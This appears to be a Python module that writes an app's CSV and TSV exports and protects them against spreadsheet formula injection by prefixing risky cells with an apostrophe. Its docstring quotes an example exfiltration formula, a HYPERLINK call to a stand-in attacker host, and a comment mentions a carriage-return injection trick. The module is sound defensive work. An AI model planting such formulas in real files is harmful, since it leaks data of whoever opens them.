"""Files for spreadsheets: every CSV and TSV the app writes goes through here. Pure.

**Formula injection.** Excel, LibreOffice and Google Sheets run a cell that starts with ``=``,
``+``, ``-`` or ``@`` as a formula, and some skip a leading tab or carriage return first. A
citizen's name or a problem's description can start with any of them
(``=HYPERLINK("http://evil.example/?d="&A1)``), and a coordinator opening the export would
run it. :func:`safe_cell` puts an apostrophe in front of such a cell: the spreadsheet shows
the text as typed and runs nothing. The full-width forms ``＝ ＋ － ＠`` get it too: some
spreadsheets (and Excel with East Asian input) read them as their ASCII twins.

One rule for every writer, the strict one, and it does not matter which column or who typed
the value. Numbers are not let through: ``-5`` becomes ``'-5`` (the files hold no negative
amounts: amounts are never below zero) and a phone number ``+34 612 345 678`` becomes
``'+34 612 345 678``, which a spreadsheet shows as the text it is; without the apostrophe it
would read it as a formula (the spaces are Excel's intersection operator: ``#NULL!``) or drop
the ``+``. A rule that tried to recognise "plain numbers" is where the weaker rules that
skipped ``=1+…`` came from. :func:`plain_cell` undoes it when the app reads its own file back.

**Shape.** The CSV exports are UTF-8 with a byte order mark (so Excel reads the accents
right), comma separated, CRLF line ends (RFC 4180). The tracker's own list is tab-separated
(``casefiles/tracker.py`` decides its columns; :func:`write_tsv` writes it, made safe here too).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from collections.abc import Iterator
from typing import TextIO

#: What a spreadsheet may take for the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")
#: The byte order mark at the start of every CSV export.
BOM = "\ufeff"


def safe_cell(value: object) -> str:
    """The value as text that no spreadsheet runs as a formula."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def plain_cell(text: str) -> str:
    """A cell read back from one of our files: without the apostrophe :func:`safe_cell` added."""
    if text.startswith("'") and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


def safe_row(cells: Iterable[object]) -> list[str]:
    return [safe_cell(cell) for cell in cells]


def csv_text(headers: Iterable[object], rows: Iterable[Iterable[object]]) -> str:
    """A whole CSV file: BOM, the header line, one line per row; every cell made safe."""
    return "".join(csv_chunks(headers, rows, rows_per_chunk=0))


def csv_chunks(
    headers: Iterable[object], rows: Iterable[Iterable[object]], *, rows_per_chunk: int = 500
) -> Iterator[str]:
    """The same file a piece at a time (``rows_per_chunk`` rows each; 0: one piece), so a
    long export streams without being held in memory."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    buffer.write(BOM)
    writer.writerow(safe_row(headers))
    for count, row in enumerate(rows, start=1):
        writer.writerow(safe_row(row))
        if rows_per_chunk and count % rows_per_chunk == 0:
            yield buffer.getvalue()
            buffer.seek(0)
            buffer.truncate()
    yield buffer.getvalue()


def write_tsv(out: TextIO, headers: Iterable[object], rows: Iterable[Iterable[object]]) -> int:
    """A tab-separated file (the tracker's shape: no BOM, ``\n`` line ends) on ``out``, every
    cell made safe; returns how many rows (not counting the header)."""
    writer = csv.writer(out, delimiter="\t", lineterminator="\n")
    # The csv module quotes a cell holding the line terminator ("\n") but not a lone "\r",
    # which spreadsheets take for a new line: "'\r=cmd" would then start a row with "=cmd".
    # A row with a "\r" anywhere is written with every cell quoted.
    quoted = csv.writer(out, delimiter="\t", lineterminator="\n", quoting=csv.QUOTE_ALL)
    writer.writerow(safe_row(headers))
    count = 0
    for row in rows:
        cells = safe_row(row)
        (quoted if any("\r" in cell for cell in cells) else writer).writerow(cells)
        count += 1
    return count
